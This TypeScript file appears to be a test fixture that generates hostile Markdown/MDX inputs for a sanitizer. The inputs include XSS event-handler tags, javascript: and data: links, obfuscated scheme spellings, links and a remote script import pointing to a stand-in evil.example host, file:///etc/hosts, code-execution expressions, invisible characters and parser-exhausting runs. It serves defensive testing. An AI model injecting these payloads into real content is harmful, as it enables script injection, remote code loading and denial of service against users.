const evil = 'https://evil.example/?to=reader'

const handlers =
  'abort auxclick beforetoggle blur canplay change click copy cut dblclick drag drop error focus hashchange input keydown load message mouseenter paste play pointerdown resize scroll submit toggle unload wheel'
const elements =
  'a abbr area article aside audio base button canvas center dialog details fieldset font footer form frame frameset head header iframe input ins isindex label legend link main map meta nav optgroup option output param plaintext portal progress ruby section select slot source style summary table title track video xmp'
const schemes = [
  'javascript:alert(2)',
  'JAVASCRIPT:alert(1)',
  'vbscript:x',
  'data:text/html,<b>x</b>',
  'data:image/svg+xml,x',
]
const elsewhere = [
  'blob:null/1',
  'file:///etc/hosts',
  `view-source:${evil}`,
  'ws://evil.example',
  'ftp://evil.example/x',
]
const addresses = [
  ...schemes,
  ...elsewhere,
  evil,
  '//evil.example/x',
  '/auth/sign-out?x=1',
  'http:evil.example',
  'tel:112',
]
const expressions =
  '{1+1} {process.exit()} {globalThis.x=1} {require("fs")} {import("fs")} {...props} {/*x*/} {<b/>} {x.y} {new.target} {this} {[1].map(String)}'
const modules = [
  'import x from "x"',
  'export default 1',
  'export const metadata = {}',
  'import "https://evil.example/x.js"',
]
const components = [
  'Slot',
  'Callout',
  'Depth',
  'Exercise',
  'Tabs',
  'Figure',
  'Script',
  'Image',
  'Link',
  'Fragment',
  'x.y',
  'x:y',
]
const hidden =
  '00 07 08 0B 1B 7F 85 AD 61C 180E 200B 200C 200D 200E 200F 202A 202B 202C 202D 202E 2060 2061 2064 2066 2067 2068 2069 206A FEFF FFF9 FFFB E0001 E0020 E007F'
const nested = [
  '> ',
  '- ',
  '1. ',
  '* ',
  '+ ',
  '>- ',
  '> 1. ',
  '  - ',
  '[',
  '![',
  '**_',
  '~~**',
  '<b>',
  '<!--',
  '$\\frac{',
  '${',
]
const runs = [
  '*a_',
  '- a\n',
  '1. a\n',
  '$a$ ',
  '`a` ',
  '[a](/b) ',
  '[a][b] ',
  '~a~ ',
  '&amp;',
  '<b>',
  '|a|\n|-|\n',
  '# a\n',
  'a\n',
  'no ',
  ' ',
]

/** The same tricks in every variety that they come in: what each tries, and how. */
export const families: Record<string, string[]> = {
  'event handlers of every name': handlers
    .split(' ')
    .map((name, n) => `<${['b', 'img src=x', 'svg', 'input'][n % 4]} on${name}=alert(1)>`),
  'elements of every name': elements.split(' ').map((name) => `<${name} id=root style="position:fixed">x</${name}>`),
  'links to every address': addresses.flatMap((address) => [`[x](${address})`, `[x](<${address}> "x")`]),
  'links by reference': addresses.map((address) => `[x][y]\n\n[y]: <${address}>`),
  'links by themselves': addresses.map((address) => `<${address}>`),
  'pictures from every address': addresses.flatMap((address) => [`![x](${address})`, `![x][y]\n\n[y]: ${address}`]),
  'addresses in disguise': [
    'java&NewLine;script:x',
    'java%0ascript:x',
    '\\javascript:x',
    '&#106avascript:x',
    'j\u0430vascript:x',
    ' javascript:x',
    'javascript&colon;x',
  ].map((address) => `[x](${address})`),
  expressions: expressions.split(' '),
  'modules and components': [
    ...modules,
    ...components.flatMap((name) => [`<${name} x={1} />`, `<${name}>x</${name}>`]),
  ],
  'characters that show nothing or turn the text': hidden
    .split(' ')
    .map((code) => `before${String.fromCodePoint(Number.parseInt(code, 16))}after`),
  'nesting without end': nested.flatMap((unit) => [unit.repeat(200), `${unit.repeat(24)}x`]),
  'runs without end': runs.map((unit) => unit.repeat(Math.ceil(20_000 / unit.length))),
  'runs as long as an honest text': runs.map((unit) => unit.repeat(Math.ceil(1500 / unit.length))),
}
